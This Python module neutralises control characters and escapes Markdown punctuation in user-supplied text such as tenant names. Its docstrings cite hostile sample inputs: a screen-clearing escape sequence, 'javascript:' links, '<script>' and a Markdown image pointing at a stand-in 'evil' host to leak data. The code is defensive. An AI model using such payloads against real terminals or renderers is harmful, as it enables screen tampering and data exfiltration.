"""User text made safe to show in a terminal or a file: control characters neutralised.

The same rule as ``scheduler.eventlog.text`` (the dashboard may not import the scheduler; a
test keeps the two identical): ESC becomes ␛ (the Control Pictures block), NUL ␀, DEL ␡, and a
C1 control such as CSI the four characters ``\\x9b``. A terminal then shows a tenant named
``ESC[2J`` instead of clearing the screen, and vl-convert renders a chart of it instead of
aborting on a character XML does not allow.
"""

from __future__ import annotations

import re
from typing import Any

CONTROL_CHARACTERS = re.compile("[\x00-\x1f\x7f-\x9f\ufffe\uffff]")
"""C0 and C1 control characters, DEL, and the non-characters U+FFFE and U+FFFF."""


def _shown(match: re.Match[str]) -> str:
    code = ord(match.group())
    if code < 0x20:
        return chr(0x2400 + code)
    if code == 0x7F:
        return "\u2421"
    if code > 0xFFFD:  # the non-characters U+FFFE and U+FFFF, which XML (a chart's SVG) refuses
        return "\ufffd"
    return f"\\x{code:02x}"


def printable(text: str, keep: str = "") -> str:
    """``text`` with each control character not in ``keep`` replaced by a visible stand-in."""
    if text.isprintable():
        return text
    return CONTROL_CHARACTERS.sub(lambda m: m.group() if m.group() in keep else _shown(m), text)


# Markdown punctuation that can start inline markup: links and images ([x](javascript:…),
# ![](http://…): escaping the brackets is enough), raw HTML and autolinks (<script>,
# <javascript:…>), emphasis, code spans, strikethrough, table cells, entities, and the backslash.
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_\[\]<>|~&])")


def markdown_text(text: str) -> str:
    """User text as literal Markdown (report.md, the dashboard's captions and messages): every
    character that could start markup is backslash-escaped, line breaks become spaces, and
    control characters are neutralised. A tenant named ``![](http://evil/?leak)`` is shown,
    not fetched."""
    flat = str(text).replace("\r", " ").replace("\n", " ")
    return _MARKDOWN_SPECIAL.sub(r"\\\1", printable(flat))


def printable_value(value: Any, keep: str = "") -> Any:
    """`printable` for text; any other value as it is."""
    return printable(value, keep) if isinstance(value, str) else value
